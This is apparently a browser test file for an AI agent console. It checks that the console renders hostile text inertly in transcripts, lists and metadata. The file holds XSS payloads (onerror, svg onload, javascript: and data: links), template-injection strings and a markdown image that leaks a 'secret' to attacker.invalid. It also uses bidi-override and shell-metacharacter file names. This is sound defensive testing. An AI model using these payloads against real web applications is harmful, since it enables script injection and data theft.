import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { hasBrowser, launchBrowser, openPage } from '../../harness/browser.ts';
import { startConsoleLab, type ConsoleLab, type PlannedEvent } from '../../harness/console-lab.ts';

/** Everything that would show that a text did something: it would call this. */
const PROBE = 'window.probed=1';
const TEXTS = [
  `<img src=x onerror="${PROBE}"><script>${PROBE}</script><svg onload="${PROBE}"></svg>`,
  `<iframe srcdoc="<script>parent.${PROBE}</script>"></iframe><a href="javascript:${PROBE}">raw</a>`,
  `[markdown](javascript:${PROBE}) [tabbed](java\tscript:${PROBE}) [data](data:text/html,<script>${PROBE}</script>) <javascript:${PROBE}>`,
  `![stolen](https://attacker.invalid/x.png?secret=1) ![inline](data:image/svg+xml,<svg onload="${PROBE}"/>)`,
  `<style>body{display:none}</style><form action="https://attacker.invalid"><input name=id></form>`,
  `<details open ontoggle="${PROBE}"><summary>x</summary></details><math><mtext></math><img src onerror=${PROBE}>`,
  '```html\n<script>' + PROBE + '</script>\n```',
  `\u001b]8;;javascript:${PROBE}\u0007click\u001b]8;;\u0007 \u001b[31mred\u001b[0m \u202egnp.exe`,
  `{{constructor.constructor('${PROBE}')()}} \${${PROBE}} __proto__`,
];
const ALL = TEXTS.join('\n\n');
const block = [{ type: 'text', text: ALL }];

const HOSTILE: PlannedEvent[] = [
  { type: 'user.message', content: block },
  { type: 'span.model_request_start', id: 'sevt_start' },
  { type: 'agent.message', content: TEXTS.map((text) => ({ type: 'text', text })) },
  {
    type: 'agent.tool_use',
    id: 'sevt_bash',
    name: 'bash',
    input: { command: ALL },
    evaluated_permission: 'allow',
  },
  {
    type: 'agent.tool_use',
    id: 'sevt_edit',
    name: 'edit',
    input: { file_path: ALL, old_string: ALL, new_string: `${ALL}!` },
    evaluated_permission: 'allow',
  },
  { type: 'agent.tool_use', id: 'sevt_own', name: ALL, input: { [ALL]: ALL }, evaluated_permission: 'allow' },
  {
    type: 'span.model_request_end',
    model_request_start_id: 'sevt_start',
    is_error: false,
    model_usage: {
      input_tokens: 1,
      output_tokens: 1,
      cache_creation_input_tokens: 0,
      cache_read_input_tokens: 0,
    },
  },
  { type: 'agent.tool_result', tool_use_id: 'sevt_bash', content: block, is_error: true },
  {
    type: 'agent.tool_result',
    tool_use_id: 'sevt_edit',
    content: [
      { type: 'document', source: { type: 'url', url: `javascript:${PROBE}` }, title: ALL },
      {
        type: 'search_result',
        source: `javascript:${PROBE}`,
        title: ALL,
        content: [{ type: 'text', text: ALL }],
      },
      {
        type: 'image',
        source: {
          type: 'base64',
          media_type: 'image/svg+xml',
          data: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${PROBE}"/>`).toString('base64'),
        },
      },
    ],
  },
  { type: 'agent.tool_result', tool_use_id: 'sevt_own', content: [{ type: ALL }] },
  {
    type: 'session.error',
    error: { type: 'unknown_error', message: ALL, retry_status: { type: 'exhausted' } },
  },
  { type: 'agent.never_seen', content: ALL },
];

/** In the browser: the texts, read-out names and names of downloads of a page that hold what turns, hides or breaks what is beside it. */
const HIDDEN_ON_PAGE = String.raw`(() => {
  const hidden = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
  const shown = ['title of the page: ' + document.title];
  for (const element of document.querySelectorAll('body *')) {
    for (const { name, value } of element.attributes) {
      if (/^(aria-label|title|alt|placeholder|download)$/.test(name)) shown.push(name + ': ' + value);
    }
    if (element.closest('.markdown, .plain-text') !== null) continue;
    for (const node of element.childNodes) {
      if (node.nodeType === Node.TEXT_NODE) shown.push(element.className + ': ' + node.nodeValue);
    }
  }
  return shown.filter((text) => hidden.test(text));
})()`;

describe.skipIf(!hasBrowser())('hostile text in the console', () => {
  let lab: ConsoleLab;
  let browser: Browser;
  let page: Page;
  let problems: string[];
  let requests: string[];

  beforeAll(async () => {
    lab = await startConsoleLab();
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser.close();
    await lab.api.stop();
  });
  beforeEach(async () => {
    ({ page, problems } = await openPage(browser, { viewport: { width: 1280, height: 20_000 } }));
    requests = [];
    page.on('request', (request) => requests.push(request.url()));
  });
  afterEach(async () => {
    await page.waitForTimeout(200);
    expect(await page.evaluate('window.probed')).toBeUndefined();
    expect(
      await page.locator('script:not([src]), iframe, object, embed, style, [onerror], [onload]').count(),
    ).toBe(0);
    expect(
      await page
        .locator('a[href^="javascript" i], a[href^="data:" i], img:not([src^="blob:"], [src="/icon.svg"])')
        .count(),
    ).toBe(0);
    expect(requests.filter((url) => !url.startsWith(lab.api.url) && !url.startsWith('blob:'))).toEqual([]);
    expect(problems).toEqual([]);
    await page.context().close();
  });

  it('stays text in a transcript, in raw events and in the details', async () => {
    const { id } = await lab.session(ALL.slice(0, 1_000), HOSTILE);
    await page.goto(`${lab.api.url}/sessions/${id}`);
    await page.getByText('Event agent.never_seen').waitFor();
    for (const head of await page.locator('.tool-head[aria-expanded=false]').all()) await head.click();
    for (const button of await page.getByRole('button', { name: 'Raw events' }).all()) {
      await button.click({ force: true });
    }
    expect(await page.getByText('onerror=').count()).toBeGreaterThan(5);
    await page.getByRole('button', { name: 'Details, files and events' }).click();
    for (const tab of ['Files', 'Tools', 'Events']) await page.getByRole('tab', { name: tab }).click();
    const links = await page
      .locator('.markdown a')
      .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
    expect(links).toEqual(['https://attacker.invalid/x.png?secret=1']);
  });

  it('stays text in lists: sessions, agents, environments, skills, files', async () => {
    const { beta } = lab.api.client();
    const name = TEXTS[0]?.slice(0, 250) ?? '';
    const agent = await beta.agents.create({
      name,
      description: ALL.slice(0, 2_000),
      system: ALL,
      model: 'demo',
    });
    const environment = await beta.environments.create({ name, description: ALL.slice(0, 2_000) });
    await beta.sessions.create({
      agent: agent.id,
      environment_id: environment.id,
      title: name,
      metadata: { x: name },
    });
    const skill = await beta.skills.create({
      display_name: name,
      files: [
        new File([`---\nname: hostile\ndescription: Tries things.\n---\n\n${ALL}\n`], 'hostile/SKILL.md'),
        new File([ALL], 'hostile/scripts/x.py'),
      ],
    });
    await beta.files.upload({ file: new File(['x'], "a'&;%`$(x)\u202egnp.exe") });
    for (const place of [
      'sessions',
      'agents',
      `agents/${agent.id}`,
      'environments',
      `environments/${environment.id}`,
      'skills',
      `skills/${skill.id}`,
      'files',
    ]) {
      await page.goto(`${lab.api.url}/${place}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.waitForLoadState('networkidle');
    }
    expect(await page.getByText('U+202E').count()).toBe(1);
  });

  /** What turns, hides or breaks what is beside it, as a page shows it: in its text, in what is read out, in what a file is saved as. */
  const hiddenOnPage = async (): Promise<string[]> => page.evaluate<string[]>(HIDDEN_ON_PAGE);

  it('hides and turns nothing in names, titles and metadata, on any page', async () => {
    const { beta } = lab.api.client();
    const evil = 'a\u202egnp\u2066b\u200fc\u061cd\u200be\ufefff\u{e0041}g\u2028h';
    const name = `${evil} 👩‍💻 تقرير`;
    const agent = await beta.agents.create({
      name,
      description: name,
      model: 'demo',
      metadata: { [evil]: name },
    });
    const environment = await beta.environments.create({ name, description: name });
    const session = await lab.session(name, [
      { type: 'user.message', content: [{ type: 'text', text: 'hello' }] },
      {
        type: 'agent.tool_use',
        id: 'sevt_x',
        name: evil,
        input: { [evil]: evil },
        evaluated_permission: 'ask',
      },
      {
        type: 'agent.mcp_tool_use',
        id: 'sevt_m',
        name: evil,
        mcp_server_name: evil,
        input: { file_path: evil },
        evaluated_permission: 'allow',
      },
      {
        type: 'session.error',
        error: { type: 'unknown_error', message: evil, retry_status: { type: 'exhausted' } },
      },
    ]);
    await beta.sessions.create({ agent: agent.id, environment_id: environment.id, title: name });
    await beta.sessions.update(session.id, { metadata: { [evil]: name } });
    const skill = await beta.skills.create({
      display_name: name.replace('\u2028', ''),
      files: [new File([`---\nname: odd\ndescription: Odd \u202eone.\n---\nx\n`], 'odd/SKILL.md')],
    });
    await beta.files.upload({ file: new File(['x'], `${evil.replace('\u2028', '')}.txt`) });
    const places = [
      'sessions',
      `sessions/${session.id}`,
      'agents',
      `agents/${agent.id}`,
      'environments',
      `environments/${environment.id}`,
      'skills',
      `skills/${skill.id}`,
      'files',
      'models',
    ];
    for (const place of places) {
      await page.goto(`${lab.api.url}/${place}`);
      await page.locator('h1').first().waitFor();
      // A session's page keeps a stream open.
      if (place === `sessions/${session.id}`) await page.locator('.waiting-title').waitFor();
      else await page.waitForLoadState('networkidle');
      expect(await hiddenOnPage(), place).toEqual([]);
      for (const head of await page.locator('.tool-head[aria-expanded=false]').all()) await head.click();
      const details = page.getByRole('button', { name: 'Details, files and events' });
      if ((await details.count()) === 0) continue;
      await details.click();
      for (const tab of ['Details', 'Files', 'Tools', 'Events']) {
        const found = page.getByRole('tab', { name: tab });
        if ((await found.count()) > 0) await found.click();
        expect(await hiddenOnPage(), `${place}, ${tab}`).toEqual([]);
      }
    }
    await page.goto(`${lab.api.url}/sessions/${session.id}`);
    await expect.poll(async () => page.title()).toContain('U+202E');
    expect(await page.locator('h1').textContent()).toContain('👩‍💻 تقرير');
    await page.goto(`${lab.api.url}/sessions?new=1`);
    const choices = page.getByRole('dialog').locator('.choice');
    // The dialog comes once the agents and environments to choose from are there.
    await choices.first().waitFor();
    for (const choice of await choices.all()) {
      await choice.click();
      await page.getByRole('option').first().waitFor();
      expect(await hiddenOnPage()).toEqual([]);
      await page.keyboard.press('Escape');
    }
  });
});
